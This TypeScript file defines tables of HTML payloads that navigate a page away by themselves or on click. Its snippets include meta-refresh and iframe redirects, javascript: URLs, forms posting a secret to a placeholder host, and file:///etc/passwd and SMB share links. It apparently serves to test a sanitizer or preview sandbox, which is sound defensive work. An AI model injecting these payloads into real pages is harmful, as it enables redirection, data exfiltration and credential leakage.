import type { PayloadTable } from './payload.ts'

/** Markup that takes the window elsewhere by itself: each needs a page of its own. */
export const NAVIGATION: PayloadTable = {
  'meta-refresh': '<meta http-equiv="refresh" content="0;url={http}/a.html">',
  'meta-refresh-data': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{run}</script>">',
  'meta-refresh-javascript': '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
  'script-location': '<script>location="{http}/a.html"</script>',
  'iframe-top-location': '<iframe srcdoc="<script>top.location=`{http}/a.html`</script>"></iframe>',
  'iframe-meta-refresh': '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url={http}/a.html\'>"></iframe>',
  'base-address':
    '<base href="{http}/"><img src="a.png"><script src="a.js"></script><link rel="stylesheet" href="a.css">',
  'base-target': '<base target="_blank"><a href="{http}/a.html">a link</a>',
  frameset:
    '</p></div></section></main></body><frameset><frame src="{http}/a.html"><frame src="javascript:{run}"></frameset>',
  'html-manifest': '<html manifest="{http}/a.appcache" onload="{run}"><body onload="{run}" background="{http}/a.png">',
}

/** Links, forms and buttons that leave when they are used: clicked one after the other. */
export const CLICKS: PayloadTable = {
  'link-plain': '<a href="{http}/a.html">a link</a>',
  'link-blank': '<a target="_blank" href="{http}/a.html">a link</a>',
  'link-named': '<a target="elsewhere" rel="opener" href="{http}/a.html">a link</a>',
  'link-ping': '<a href="#here" ping="{http}/ping">a link</a>',
  'link-download': '<a download="a.html" href="{http}/a.html">a link</a>',
  'link-attribution': '<a attributionsrc="{https}/a" target="_blank" href="{https}/a.html">a link</a>',
  'link-file': '<a href="file:///etc/passwd">a link</a>',
  'link-share': '<a href="\\\\{host}\\share">a link</a>',
  'link-smb': '<a href="smb://{host}/share">a link</a>',
  'link-obsidian': '<a href="obsidian://open?vault={host}">a link</a>',
  'link-mail': '<a href="mailto:a@{host}">a link</a>',
  'link-simak': '<a href="simak://app/index.html?hostile">a link</a>',
  'link-view-source': '<a href="view-source:{http}/a.html">a link</a>',
  'link-area':
    '<img usemap="#leave" width="50" height="50" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><map name="leave"><area shape="default" href="{http}/a.html"></map>',
  'form-get': '<form action="{http}/a.html"><input name="q" value="secret"><button>send</button></form>',
  'form-post': '<form method="post" action="{http}/a.html"><input name="q" value="secret"><button>send</button></form>',
  'form-blank': '<form target="_blank" action="{http}/a.html"><button>send</button></form>',
  'form-action-button': '<form><button formaction="{http}/a.html">send</button></form>',
  'form-outside-button': '<form id="far"></form><button form="far" formaction="{http}/a.html">send</button>',
  'form-image': '<form action="{http}/a.html"><input type="image" alt="send" src="data:,"></form>',
  'svg-link': '<svg width="80" height="20"><a href="{http}/a.html"><text y="15">a link</text></a></svg>',
  'math-link': '<math href="{http}/a.html"><mi>x</mi></math>',
  'math-action': '<math><maction actiontype="statusline#{http}" xlink:href="{http}/a.html"><mi>x</mi></maction></math>',
}
